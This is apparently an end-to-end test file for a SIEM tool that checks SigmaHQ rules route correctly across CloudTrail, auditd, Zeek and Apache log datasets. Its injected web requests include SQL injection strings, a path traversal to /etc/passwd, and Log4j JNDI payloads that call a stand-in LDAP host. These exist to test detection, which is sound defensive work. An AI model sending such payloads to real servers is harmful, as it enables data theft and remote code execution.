// Logsource routing end to end (issue 15), through the built CLI with SigmaHQ's rules and
// default options (--pipeline auto): on the CloudTrail, auditd and web access datasets no
// alert comes from a rule written for another logsource, and the rules that fit still fire
// (listed per dataset); the Apache combined log and its JSON twin give the same alerts, with
// injected attack requests; raw auditd lines and the auditd JSON records give the same alerts.
// Needs the build (`npm test` builds first): the CLI runs from dist.
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { gunzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { logsourceFits, type DetectionRule, type SourceLogsource } from '@siemlite/core';
import { loadRules } from '@siemlite/rules';
import { hasShared, REPO_ROOT, SHARED_DIR } from '../support/shared.js';

const CLI = join(REPO_ROOT, 'packages/cli/dist/main.js');
const run = promisify(execFile);
const RULE_DIRS = ['rules', 'rules-emerging-threats', 'rules-threat-hunting'];

interface Alert {
  readonly rule: { readonly id: string | null; readonly title: string };
  readonly source: { readonly path: string; readonly record: number };
  readonly event: Record<string, unknown>;
}

async function hunt(args: readonly string[], workers = 0): Promise<{ alerts: Alert[]; stderr: string }> {
  if (!existsSync(CLI)) throw new Error(`${CLI} not found: build first (npx turbo run build)`);
  const rules = RULE_DIRS.flatMap((d) => ['--rules', join(SHARED_DIR, 'sigma', d)]);
  const { stdout, stderr } = await run(process.execPath, [CLI, 'hunt', '--format', 'jsonl', '--workers', String(workers), ...rules, ...args], { maxBuffer: 1 << 30 });
  return { alerts: stdout.trim() === '' ? [] : stdout.trim().split('\n').map((l) => JSON.parse(l) as Alert), stderr };
}

const dataset = (name: string): string => join(SHARED_DIR, 'datasets', name);
const gunzipText = (path: string): string => gunzipSync(readFileSync(path)).toString('utf8');
/** Distinct rule titles that alerted, sorted. */
const titles = (alerts: readonly Alert[]): string[] => [...new Set(alerts.map((a) => a.rule.title))].sort();
/** What must agree between two runs over the same events: record, rule and event, not the path. */
const comparable = (alerts: readonly Alert[]): string[] => alerts.map((a) => JSON.stringify([a.source.record, a.rule.id, a.event]));

// Attack requests appended to the real access log, written once as Apache combined log
// lines and once as the JSON twin's W3C fields, from the same parts.
const INJECTED = [
  { ip: '203.0.113.7', target: "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", status: 200, agent: 'sqlmap/1.5.2#stable (http://sqlmap.org)' },
  { ip: '203.0.113.7', target: "/products.php?cat=1' or '1'='1", status: 200, agent: 'Mozilla/5.0' },
  { ip: '203.0.113.8', target: '/download.php?file=../../../../etc/passwd', status: 200, agent: 'curl/7.68.0' },
  { ip: '203.0.113.9', target: '/?x=${jndi:ldap://203.0.113.9:1389/Exploit}', status: 200, agent: '${jndi:ldap://203.0.113.9:1389/a}' },
];

function injectedLine(r: (typeof INJECTED)[number]): string {
  return `${r.ip} - - [20/May/2015:21:05:00 +0000] "GET ${r.target} HTTP/1.1" ${r.status} 512 "-" "${r.agent}"`;
}

function injectedJson(r: (typeof INJECTED)[number]): string {
  const q = r.target.indexOf('?');
  return JSON.stringify({
    date: '20/May/2015:21:05:00 +0000',
    'c-ip': r.ip,
    'cs-username': '-',
    'cs-method': 'GET',
    'cs-version': 'HTTP/1.1',
    'cs-uri-stem': q < 0 ? r.target : r.target.slice(0, q),
    'cs-uri-query': q < 0 ? '' : r.target.slice(q + 1),
    'c-uri': r.target,
    'sc-status': r.status,
    'sc-bytes': 512,
    'cs-referer': '-',
    'cs-user-agent': r.agent,
  });
}

/** An auditd JSON record written back as the raw line auditd logs (names the kernel encodes quoted, hex left as is). */
function auditdLine(record: Record<string, string>): string {
  const { type, timestamp, serial, ...fields } = record;
  const quoted = new Set(['comm', 'exe', 'cwd', 'name', 'key']);
  const pairs = Object.entries(fields).map(([k, v]) => {
    const isText = (type === 'EXECVE' && /^a\d+$/.test(k)) || (quoted.has(k) && v !== '(null)');
    return isText && !/^(?:[0-9A-F]{2})+$/.test(v) ? `${k}="${v}"` : `${k}=${v}`;
  });
  return `type=${type} msg=audit(${timestamp}:${serial}): ${pairs.join(' ')}`;
}

const enabled = hasShared('logsource routing on shared/datasets with SigmaHQ');

describe.runIf(enabled)('logsource routing with all SigmaHQ rules and default options', () => {
  const logsources = new Map<string, DetectionRule['logsource']>();
  let dir = '';
  beforeAll(() => {
    for (const d of RULE_DIRS) for (const r of loadRules([join(SHARED_DIR, 'sigma', d)]).rules) logsources.set(r.id ?? r.title, r.logsource);
    dir = mkdtempSync(join(tmpdir(), 'siemlite-sources-'));
  });

  /** Every alert's rule fits the dataset's logsource (every field the rule states equals the dataset's). */
  function expectOnlyFitting(alerts: readonly Alert[], source: SourceLogsource): void {
    const foreign = alerts.filter((a) => !logsourceFits(logsources.get(a.rule.id ?? a.rule.title) ?? {}, source));
    expect(foreign.map((a) => `${a.rule.title} ${JSON.stringify(logsources.get(a.rule.id ?? a.rule.title))}`)).toEqual([]);
  }

  it('CloudTrail: only aws/cloudtrail rules alert, and the one that fits fires', async () => {
    const { alerts, stderr } = await hunt([dataset('otrf_aws_cloudtrail.jsonl.gz')]);
    expectOnlyFitting(alerts, { product: 'aws', service: 'cloudtrail' });
    expect(titles(alerts)).toEqual(['AWS STS AssumeRole Misuse']);
    expect(stderr).not.toMatch(/no recognized source/);
  }, 120_000);

  it('auditd JSON: only linux/auditd rules alert, and the ones that fit fire', async () => {
    const { alerts } = await hunt([dataset('otrf_linux_auditd.jsonl.gz')]);
    expectOnlyFitting(alerts, { product: 'linux', service: 'auditd' });
    expect(titles(alerts)).toEqual(['Binary Padding - Linux', 'Overwriting the File with Dev Zero or Null']);
  }, 120_000);

  it('raw auditd lines give the same alerts as the auditd JSON records', async () => {
    const records = gunzipText(dataset('otrf_linux_auditd.jsonl.gz')).trim().split('\n').map((l) => JSON.parse(l) as Record<string, string>);
    const raw = join(dir, 'audit.log');
    writeFileSync(raw, `${records.map(auditdLine).join('\n')}\n`);
    const fromJson = await hunt([dataset('otrf_linux_auditd.jsonl.gz')]);
    const fromText = await hunt([raw]);
    expect(fromText.stderr).toMatch(/18 events from 1 files, 0 bad records/);
    const key = (alerts: readonly Alert[]) => alerts.map((a) => `${a.source.record} ${a.rule.id}`);
    expect(key(fromText.alerts)).toEqual(key(fromJson.alerts));
    expect(fromText.alerts.length).toBeGreaterThan(0);
  }, 120_000);

  it('Zeek TSV rdp.log: the Zeek RDP rule fires on the public origin only, and nothing written for other logs', async () => {
    const header = '#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\trdp\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tcookie\tresult\tsecurity_protocol\n#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\n';
    const rdp = join(dir, 'rdp.log');
    writeFileSync(rdp, `${header}1515600000.1\tC1\t198.51.100.7\t52144\t10.0.0.5\t3389\tadmin\tSuccess\tHYBRID\n1515600001.1\tC2\t10.0.0.9\t52145\t10.0.0.5\t3389\tbob\tSuccess\tHYBRID\n`);
    const { alerts, stderr } = await hunt([rdp]);
    expectOnlyFitting(alerts, { product: 'zeek', service: 'rdp' });
    expect(alerts.map((a) => `${a.source.record} ${a.rule.title}`)).toEqual(['1 Publicly Accessible RDP Service']);
    expect(stderr).toMatch(/2 events from 1 files, 0 bad records/);
  }, 120_000);

  it('web access log: only webserver rules alert, on the injected attacks; the combined log and its JSON twin agree, with 1 and 2 workers', async () => {
    const text = join(dir, 'access.log');
    const json = join(dir, 'access.jsonl');
    writeFileSync(text, `${gunzipText(dataset('elastic_examples_apache_access.log.gz')).trimEnd()}\n${INJECTED.map(injectedLine).join('\n')}\n`);
    writeFileSync(json, `${gunzipText(dataset('elastic_examples_apache_access.jsonl.gz')).trimEnd()}\n${INJECTED.map(injectedJson).join('\n')}\n`);
    const fromText = await hunt([text]);
    const fromJson = await hunt([json]);
    expectOnlyFitting(fromJson.alerts, { category: 'webserver' });
    expect(titles(fromJson.alerts)).toEqual([
      'Log4j RCE CVE-2021-44228 Generic',
      'Log4j RCE CVE-2021-44228 in Fields',
      'Path Traversal Exploitation Attempts',
      'SQL Injection Strings In URI',
      'Server Side Template Injection Strings',
      'Suspicious User-Agents Related To Recon Tools',
    ]);
    // Every alert is on an injected request (records 10,001 to 10,004).
    expect(new Set(fromJson.alerts.map((a) => a.source.record))).toEqual(new Set([10_001, 10_002, 10_003, 10_004]));
    // The raw file's line 8,899 is cut inside the user agent (the JSON twin has the request
    // with empty referer and agent): a bad record with its line and column, nothing else lost.
    expect(fromText.stderr).toMatch(/access\.log:8899: bad-line: column 111: expected "user agent" \(access-log format\)/);
    expect(fromText.stderr).toMatch(/10,003 events from 1 files, 1 bad records/);
    expect(comparable(fromText.alerts)).toEqual(comparable(fromJson.alerts));
    // Worker threads parse the text lines (and the main thread re-parses the alerting ones): the same output.
    const twoWorkers = await hunt([text], 2);
    expect(twoWorkers.alerts).toEqual(fromText.alerts);
    expect(twoWorkers.stderr.replace(/elapsed [^\n]*\n/, '').replace(/detection lag [^\n]*\n/, '')).toBe(
      fromText.stderr.replace(/elapsed [^\n]*\n/, '').replace(/detection lag [^\n]*\n/, ''),
    );
  }, 180_000);
});
